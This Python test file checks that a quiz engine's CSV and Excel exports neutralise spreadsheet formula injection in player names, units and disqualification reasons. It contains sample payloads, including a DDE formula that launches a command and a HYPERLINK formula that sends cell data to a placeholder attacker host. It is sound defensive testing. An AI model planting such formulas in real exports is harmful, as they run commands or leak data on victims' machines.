"""Exports with hostile player input (issue 11, defects 1, 2, 3).

Viewers join with names, units and full names that a spreadsheet would run as formulas
(``=cmd|'/C calc'!A0``, ``=HYPERLINK(...)``, cells starting with ``+ - @``), answer, and one
is disqualified with such a reason. Every xlsx the host panel and the CLI make must hold
them as string cells (no ``<f>`` in the sheet XML), every CSV must neutralise them with a
leading ``'`` while a phone number such as ``+84 912 345 678`` stays readable, and a profile
with characters XML forbids, already stored in Redis, must still give a loadable workbook.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import httpx
import orjson
import pytest
import redis as redis_lib
from openpyxl import load_workbook

from quiz_engine.reports.safe import csv_cell, csv_writer, xml_text
from quiz_engine.reports.tables import Table
from quiz_engine.reports.xlsx import workbook_bytes
from tests.client import Client
from tests.conftest import ServerProc

NAME_DDE = "=cmd|'/C calc'!A0"
UNIT_LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FULL_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE_PLUS = "+84 912 345 678"
NAME_AT = "@Lan"
FULL_MINUS = "-2+3+cmd|' /C calc'!A0"
UNIT_PLUS = "+Sở Nội vụ"
NAME_DQ = "=1+2 Minh"
REASON_LINK = '=HYPERLINK("http://evil.example","x")'
HOSTILE = [NAME_DDE, UNIT_LINK, FULL_AT, NAME_AT, FULL_MINUS, UNIT_PLUS, NAME_DQ, REASON_LINK]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")
PHONE_LIKE = re.compile(r"\+?[(0-9][0-9 ().\-]*")


# --- the neutraliser itself ----------------------------------------------------------------------


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), (NAME_DDE, "'" + NAME_DDE), (UNIT_LINK, "'" + UNIT_LINK), ("+cmd", "'+cmd"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    (PHONE_PLUS, PHONE_PLUS), ("+84912345678", "+84912345678"), ("(028) 3822-1234", "(028) 3822-1234"),
    ("0912.345.678", "0912.345.678"), ("+()", "'+()"), ("Lan", "Lan"), ("Lan =1", "Lan =1"), ("", ""),
    (-3, -3), (-2.5, -2.5), (0, 0), (None, None),
])
def test_csv_cell(value: object, written: object) -> None:
    assert csv_cell(value) == written


def test_csv_writer_keeps_numbers_numbers() -> None:
    buf = io.StringIO()
    csv_writer(buf).writerow([-3, -2.5, "-3", "=A1", PHONE_PLUS, None])
    assert buf.getvalue() == f"-3,-2.5,'-3,'=A1,{PHONE_PLUS},\r\n"


def test_xml_text_replaces_what_xml_forbids() -> None:
    assert xml_text("\ud7ff\ue000\uffff") == "\ud7ff\ue000\ufffd"
    assert xml_text("a\x00b\x0bc\ufffe\ud800\tok\n") == "a\ufffdb\ufffdc\ufffd\ufffd\tok\n"
    assert xml_text("Nguyễn Thị Lan 😀") == "Nguyễn Thị Lan 😀"


# --- helpers --------------------------------------------------------------------------------------


def _sheet_xml(payload: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(payload)) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}


def assert_xlsx_safe(payload: bytes, expected: list[str]) -> None:
    """No formula anywhere; each expected string present, exactly, as a string cell."""
    for name, xml in _sheet_xml(payload).items():
        assert "<f>" not in xml and "<f " not in xml, name
    wb = load_workbook(io.BytesIO(payload))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for want in expected:
        # a display name is shown with its public tag: "=cmd|... #K7QM"
        found = [c for c in cells if isinstance(c.value, str) and re.fullmatch(re.escape(want) + r"( #\w{4})?",
                                                                                c.value)]
        assert found, f"{want!r} not in the workbook"
        assert all(c.data_type == "s" for c in found), want


def assert_csv_safe(text: str, expected: list[str]) -> list[list[str]]:
    """No cell a spreadsheet would run (phone-like ones excepted); each expected one neutralised."""
    rows = list(csv.reader(io.StringIO(text)))
    flat = [cell for row in rows for cell in row]
    bad = [cell for cell in flat if cell.startswith(DANGEROUS_START) and not PHONE_LIKE.fullmatch(cell)]
    assert not bad
    for want in expected:
        assert any(re.fullmatch("'" + re.escape(want) + r"( #\w{4})?", cell) for cell in flat), want
    return rows


# --- the writers on their own ---------------------------------------------------------------------


def test_workbook_cells_are_strings_never_formulas() -> None:
    table = Table("Sheet", [("name", "text"), ("unit", "text"), ("n", "int"), ("s", "seconds")])
    table.rows = [[NAME_DDE, UNIT_LINK, -3, -1.25], [FULL_AT, PHONE_PLUS, 4, None], ["+1", "-1", None, 2.5]]
    payload = workbook_bytes([table], title="=evil")
    assert_xlsx_safe(payload, [NAME_DDE, UNIT_LINK, FULL_AT, PHONE_PLUS, "+1", "-1"])
    ws = load_workbook(io.BytesIO(payload)).active
    assert ws is not None
    assert ws["A2"].value == NAME_DDE and ws["A2"].data_type == "s"
    assert ws["C2"].value == -3 and ws["C2"].data_type == "n"  # numbers stay numbers, negative too
    assert ws["D2"].value == -1.25 and ws["D2"].data_type == "n"


def test_workbook_with_xml_forbidden_characters_loads() -> None:
    table = Table("Sheet", [("name", "text"), ("unit", "text")])
    table.rows = [["\ud7ff\ue000\uffff", "a\x00b\x1f"], ["Lan\ud800", "x\ufffe"]]
    ws = load_workbook(io.BytesIO(workbook_bytes([table]))).active
    assert ws is not None
    assert [ws["A2"].value, ws["B2"].value, ws["A3"].value, ws["B3"].value] == [
        "\ud7ff\ue000\ufffd", "a\ufffdb\ufffd", "Lan\ufffd", "x\ufffd"]


# --- a real episode -------------------------------------------------------------------------------


async def _play_hostile(server: ServerProc) -> dict[str, str]:
    """Three hostile viewers answer question 1 right; the third is disqualified. Returns name -> id."""
    people = [
        {"name": NAME_DDE, "full_name": FULL_AT, "unit": UNIT_LINK, "phone": PHONE_PLUS},
        {"name": NAME_AT, "full_name": FULL_MINUS, "unit": UNIT_PLUS, "phone": "0912-345-678"},
        {"name": NAME_DQ, "full_name": "Đỗ Minh", "unit": UNIT_LINK, "phone": "+84 90 000 0000"},
    ]
    clients = [await Client.connect(f"{server.ws}/ws/viewer") for _ in people]
    ids: dict[str, str] = {}
    try:
        for c, fields in zip(clients, people, strict=True):
            welcome = await c.join(**fields)
            assert welcome["profile"] == fields  # accepted unchanged: the exports must cope
            ids[fields["name"]] = welcome["player"]
        assert server.cmd("open", expect=0).status_code == 200
        for c in clients:
            frame = await c.expect("question", index=0)
            assert (await c.answer(frame["index"], 1))["ok"]  # "One plus one?" -> B
        assert server.cmd("close").status_code == 200
        assert server.cmd("reveal").status_code == 200
        r = server.cmd("disqualify", player=ids[NAME_DQ], reason=REASON_LINK)
        assert r.status_code == 200, r.text
    finally:
        for c in clients:
            await c.close()
    return ids


def _get(server: ServerProc, path: str, **params: str) -> httpx.Response:
    with server.host() as host:
        r = host.get(path, params=params)
    assert r.status_code == 200, (path, r.text)
    return r


def _cli(server: ServerProc, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    run = subprocess.run([sys.executable, "-m", "quiz_engine", *args, "--redis-url", server.redis_url],
                         capture_output=True, text=True, cwd=cwd, timeout=60)
    assert run.returncode == 0, run.stderr
    return run


async def test_hostile_names_in_every_xlsx(make_server: Callable[..., ServerProc], tmp_path: Path) -> None:
    server = make_server("--load", "test/ep1")
    await _play_hostile(server)
    winners_xlsx = [
        _get(server, "/api/host/reports/results.xlsx", episode="test.ep1").content,
        _get(server, "/api/host/results", format="xlsx").content,
        _get(server, "/api/host/reports/results.xlsx", season="test").content,
    ]
    for payload in winners_xlsx:
        assert_xlsx_safe(payload, HOSTILE)
        assert_xlsx_safe(payload, [PHONE_PLUS])
    out = tmp_path / "r.xlsx"
    _cli(server, tmp_path, "results", "test.ep1", "--format", "xlsx", "-o", str(out))
    assert_xlsx_safe(out.read_bytes(), HOSTILE)
    for params in ({"episode": "test.ep1"}, {"season": "test"}):
        assert_xlsx_safe(_get(server, "/api/host/reports/participation.xlsx", **params).content,
                         [UNIT_LINK, UNIT_PLUS])


async def test_hostile_names_in_every_csv(make_server: Callable[..., ServerProc], tmp_path: Path) -> None:
    server = make_server("--load", "test/ep1")
    await _play_hostile(server)
    # the episode results (both host endpoints and the CLI), the season, participation, audit
    csvs = [
        _get(server, "/api/host/results", format="csv").content.decode("utf-8-sig"),
        _get(server, "/api/host/reports/results.csv", episode="test.ep1").content.decode("utf-8-sig"),
        _get(server, "/api/host/reports/results.csv", season="test").content.decode("utf-8-sig"),
        _cli(server, tmp_path, "results", "test.ep1").stdout,
    ]
    for text in csvs:
        rows = assert_csv_safe(text, HOSTILE)
        head = rows[0]
        winner = next(dict(zip(head, r, strict=True)) for r in rows[1:] if r[0] == "question" and r[head.index(
            "place")] == "1")
        assert winner["phone"] == "0912 345 678"  # PHONE_PLUS as text Excel keeps (safe.csv_phone), not "'+84…"
        assert float(winner["time_s"]) > 0  # a number of seconds, not neutralised
    for params in ({"episode": "test.ep1"}, {"season": "test"}):
        text = _get(server, "/api/host/reports/participation.csv", **params).content.decode("utf-8-sig")
        assert_csv_safe(text, [UNIT_LINK, UNIT_PLUS])
    audit = _cli(server, tmp_path, "audit", "test.ep1", "1", "--format", "csv").stdout
    assert_csv_safe(audit, [NAME_DDE, FULL_AT, UNIT_LINK, NAME_AT, FULL_MINUS, UNIT_PLUS, NAME_DQ])


async def test_stored_profile_with_xml_forbidden_characters_still_exports(
        make_server: Callable[..., ServerProc]) -> None:
    """A profile stored before join validation existed (or written by another tool) must not
    break the workbook: the forbidden characters become U+FFFD."""
    server = make_server("--load", "test/ep1")
    ids = await _play_hostile(server)
    r = redis_lib.Redis.from_url(server.redis_url, decode_responses=True)
    try:
        raw = r.hget("qe:players", ids[NAME_DDE])
        assert raw
        profile = orjson.loads(raw)
        profile.update(name="\ud7ff\ue000\uffff", full_name="Lan\x01\ufffe", unit="a\x01b")
        r.hset("qe:players", ids[NAME_DDE], orjson.dumps(profile).decode())
    finally:
        r.close()
    for path, params in (("/api/host/reports/results.xlsx", {"episode": "test.ep1"}),
                         ("/api/host/reports/results.xlsx", {"season": "test"}),
                         ("/api/host/reports/participation.xlsx", {"episode": "test.ep1"})):
        payload = _get(server, path, **params).content
        wb = load_workbook(io.BytesIO(payload))  # raised "not well-formed" before the fix
        values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
        if "results" in path:
            assert "Lan\ufffd\ufffd" in values and "a\ufffdb" in values
            assert any(isinstance(v, str) and v.startswith("\ud7ff\ue000\ufffd #") for v in values)
        else:
            assert "a\ufffdb" in values
    # the CSV carries them as they are (CSV has no forbidden characters) and still encodes
    text = _get(server, "/api/host/reports/results.csv", episode="test.ep1").content.decode("utf-8-sig")
    assert "\ud7ff\ue000\uffff" in text
